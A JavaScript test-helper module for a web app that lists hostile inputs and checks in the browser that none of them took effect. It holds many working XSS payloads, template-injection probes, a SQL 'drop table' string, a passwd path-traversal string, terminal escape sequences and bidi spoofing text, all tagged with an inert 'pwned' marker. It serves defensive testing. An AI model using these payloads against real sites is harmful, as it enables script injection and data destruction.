// Hostile texts, and what must never come of them. Whatever they would make carries a mark, `pwned`, that no page has otherwise.

import assert from "node:assert/strict";

import { until } from "./until.mjs";

const c = String.fromCharCode;
const ESC = c(0x1b), BEL = c(7), CSI = c(0x9b), RLO = "\u202e", LRI = "\u2066", PDI = "\u2069", ZWJ = "\u200d";

/** Texts of one line without control characters, which every field takes that takes free text. */
export const LINES = [
  "<script>pwned()</script>",
  "<SCRIPT SRC=//pwned.example/x.js></SCRIPT>",
  "</script><script>pwned()</script>",
  "<img src=x onerror=pwned()>",
  "<img src=\"//pwned.example/a.png\">",
  "<svg onload=pwned()>",
  "<svg/onload=pwned()//",
  "<svg><script>pwned()</script></svg>",
  "<svg><use href=\"data:image/svg+xml,<svg id=pwned onload=pwned()>#pwned\"></svg>",
  "<math><mi//xlink:href=\"javascript:pwned()\">",
  "<iframe srcdoc=\"<script>parent.pwned()</script>\"></iframe>",
  "<iframe src=javascript:pwned()>",
  "<object data=javascript:pwned()>",
  "<embed src=javascript:pwned()>",
  "<details open ontoggle=pwned()>",
  "<body onload=pwned()>",
  "<input autofocus onfocus=pwned()>",
  "<video><source onerror=pwned()></video>",
  "<meta http-equiv=refresh content=\"0;url=//pwned.example\">",
  "<base href=//pwned.example/>",
  "<link rel=stylesheet href=//pwned.example/x.css>",
  "<form action=//pwned.example><button>pwned",
  "<style>*{background:url(//pwned.example)}</style>",
  "<template><b id=pwned></template>",
  "<pwned-element>x</pwned-element>",
  "<a href=\"javascript:pwned()\">click</a>",
  "javascript:pwned()",
  "JaVaScRiPt:pwned()//",
  "data:text/html,<script>pwned()</script>",
  "\" onmouseover=\"pwned()\" x=\"",
  "' onfocus='pwned()' autofocus='",
  "\"><b id=pwned>",
  "'><b id=pwned>",
  "` onclick=pwned() `",
  "x\" style=\"position:fixed;inset:0\" pwned=\"",
  "</title><b id=pwned>",
  "</textarea><b id=pwned>",
  "</pre><b id=pwned>",
  "</option></select><b id=pwned>",
  "</td></tr></table><b id=pwned>",
  "--><!--><b id=pwned>",
  "<!--",
  "]]><b id=pwned>",
  "<![CDATA[<b id=pwned>]]>",
  "{{7*7}}${7*7}#{7*7}<%=7*7%>[[${7*7}]]",
  "{{constructor.constructor('pwned()')()}}",
  "${pwned()}`${pwned()}`",
  "&lt;b id=pwned&gt;&amp;lt;&#60;b&#x3e;",
  "&NewLine;&Tab;&colon;&nbsp;&zwnj;&",
  "%3Cscript%3Epwned()%3C%2Fscript%3E",
  "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
  "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
  "expression(pwned());}*{color:red",
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=pwned() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwned()//>",
  "'\"--></style></script><svg onload=pwned()>",
  "<<b id=pwned//<b id=pwned>",
  "<x hx-get=/pwned hx-trigger=load sse-connect=/pwned x-data=pwned()>",
  "id: 7 event: pwned data: <b id=pwned>",
  "../../../etc/passwd?x=#pwned",
  "'; drop table longshore.jobs; --",
  "=HYPERLINK(\"//pwned.example\")",
  `user${RLO}gpj.exe`,
  `${LRI}abc${PDI}${PDI}${RLO}def`,
  "שלום עולם (123) مرحبا",
  `👩${ZWJ}👩${ZWJ}👧${ZWJ}👦🏳️${ZWJ}🌈🇩🇪`,
  "Z̷̧͎͖͑a̶̢͔̓l̸̰̈́g̵̨̈́o̷͚͐",
  "ﬀ ǅ İ ß ﷽ 𒐫 \ufeff\u2060\u00ad soft",
  "w\u200bi\u200bd\u200be".repeat(10),
  "W".repeat(180),
  "a b".repeat(60),
];

/** Texts with control characters, for fields that take them: commands, variables, messages and logs. */
export const CONTROLS = [
  `${ESC}[2J${ESC}[1;31mred${ESC}[0m`,
  `${ESC}]0;pwned${BEL}`,
  `${ESC}]8;;http://pwned.example${ESC}\\link${ESC}]8;;${ESC}\\`,
  `${ESC}P+q544e${ESC}\\`,
  `${CSI}31mC1${c(0x85)}${c(0x9d)}`,
  `back${c(8).repeat(4)}space${c(0x7f)}`,
  `over\rwritten`,
  `form\ffeed\vtab`,
  `${c(1)}${c(2)}${c(0x1f)}<b id=pwned>`,
  `two\nlines\tand a tab`,
  `data: x\n\nevent: pwned\ndata: <b id=pwned>\n\n`,
  `${"long ".repeat(400)}<b id=pwned>`,
];

export const ALL = [...LINES, ...CONTROLS];

// What is obeyed, what turns the text around, and what has no width and no use.
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb]/gu;

/** Line ends and tabs may be kept, folded as HTML folds them, or be made visible. */
const BLANK = "(?:\\s|\u240a|\u2409|\\\\[nt])+";

/** A pattern for what a page may show of a text: each control character may be anything that can be seen. */
export function shown(text) {
  const quoted = (it) => it.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&").replace(/\s+/g, BLANK);
  const parts = text.split(CONTROL).map(quoted);
  return new RegExp(parts.join("[^\\u0000-\\u001f]{0,12}?"), "u");
}

/** Whether a text is shown as given, but for what cannot be seen, which may have become something that can. */
export function same(text, given) {
  const plain = (it) => it.replace(CONTROL, "").replace(/[\u2400-\u2426\ufffd]/g, "").replace(/\s+/g, " ").trim();
  return plain(text) === plain(given);
}

/** Fails if anything in the page as it is now came of a hostile text, or if a control character is in its text. */
export async function harmless(page, where) {
  const found = await page.evaluate(() => {
    const bad = [];
    const path = (it) => `${it.outerHTML.slice(0, 160)}`;
    for (const it of document.querySelectorAll("*")) {
      const tag = it.tagName.toLowerCase();
      if (tag.includes("pwned") || ["iframe", "object", "embed", "base", "math", "video", "audio", "frame", "template"].includes(tag)) bad.push(`element ${path(it)}`);
      if (tag === "meta" && it.httpEquiv) bad.push(`meta ${path(it)}`);
      if (["script", "style"].includes(tag) && !it.src) bad.push(`inline ${path(it)}`);
      for (const { name, value } of it.attributes) {
        // What takes pictures leaves an empty style behind.
        if (name.startsWith("on") || (name === "style" && value !== "") || name === "srcdoc" || name.includes("pwned") || (name.startsWith("hx-") && value.includes("pwned"))) {
          bad.push(`attribute ${name} of ${path(it)}`);
        }
        if (["id", "class", "name"].includes(name) && value.startsWith("pwned")) bad.push(`id of ${path(it)}`);
        if (["href", "src", "action", "formaction", "xlink:href"].includes(name) && new URL(value, location.href).origin !== location.origin && !value.startsWith("data:image/")) {
          bad.push(`address ${name}=${value.slice(0, 80)}`);
        }
      }
    }
    const controls = /[\u0000-\u0008\u000b-\u000c\u000e-\u001f\u007f-\u009f]/u;
    const bidi = /[\u202a-\u202e\u2066-\u2069]/u;
    const walk = document.createTreeWalker(document.documentElement, NodeFilter.SHOW_TEXT);
    while (walk.nextNode()) {
      const text = walk.currentNode.data, holder = walk.currentNode.parentElement;
      // A field gives back what was given.
      if (holder.tagName === "TEXTAREA") continue;
      if (controls.test(text)) bad.push(`control character in ${JSON.stringify(text.slice(0, 120))} of ${path(holder)}`);
      if (bidi.test(text) && !/isolate|plaintext/.test(getComputedStyle(holder).unicodeBidi)) bad.push(`bidi control at large in ${path(holder)}`);
    }
    return bad;
  });
  assert.ok(found.length === 0, `${where}:\n  ${found.join("\n  ")}`);
}

/** All that a person or a screen reader can get at: text, titles, and what is in fields. */
export function everything(page) {
  return page.evaluate(() => {
    const texts = [document.documentElement.textContent];
    for (const it of document.querySelectorAll("[title], [aria-label], input, textarea, option")) {
      texts.push(it.title, it.getAttribute("aria-label"), it.value, it.textContent);
    }
    return texts.filter(Boolean).join("\n");
  });
}

/** Waits until the page shows all of these texts as they were given. */
export async function shows(page, texts, where) {
  let absent = texts;
  const all = async () => {
    const text = await everything(page);
    absent = absent.filter((it) => !shown(it).test(text));
    return absent.length === 0;
  };
  await until(`${where} shows ${JSON.stringify(texts.slice(0, 3))} …`, all).catch((err) => {
    throw new Error(`${err.message}: absent are ${JSON.stringify(absent)}`);
  });
}
